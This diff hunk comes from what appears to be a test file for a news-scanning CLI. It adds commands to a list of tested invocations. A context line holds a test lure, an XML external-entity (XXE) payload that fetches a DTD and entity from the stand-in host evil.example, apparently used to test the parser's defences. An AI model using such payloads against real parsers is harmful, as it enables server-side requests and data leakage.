@@ -32,7 +32,8 @@ COMMANDS = (
     "scan in", "scan in --json --with entities,summary,body", "scan in -f html -v", "scan in -f markdown", "scan in -f csv", "scan in -t Okinawa",
     "show 1 --why", "show 1 -f html", "label keep 1 -p harm", "matches in", "entities in", "read in --jsonl", "profile new harbours", "profile list", "profile check",
     "profile check --on in", "profile test harm --labels profiles/_labels.jsonl in", "profile diff second harm in", "profile suggest harm in",
-    "sample in -p harm", "schema", "digest in -p second", "digest in -p second -f html -o brief.html", "state show", "state export", "state prune",
+    "sample in -p harm", "missed in -p harm", "count in --by outlet", "scan in --fold --top 3", "scan in --json -o report.json", "rerun report.json", "review in --plain",
+    "watch in --for 1s --poll", "profile forms Hafen --language de", "profile new bird --from disease", "cache show", "cache prune", "cache clear", "help digest", "report in/mail.eml", "schema", "digest in -p second", "digest in -p second -f html -o brief.html", "state show", "state export", "state prune",
 )  # fmt: skip
 LURES = {
     "net.xml": b'<!DOCTYPE nitf SYSTEM "http://evil.example/x.dtd" [<!ENTITY x SYSTEM "http://evil.example/x">]><nitf><head><title>Okinawa &x;</title></head></nitf>',
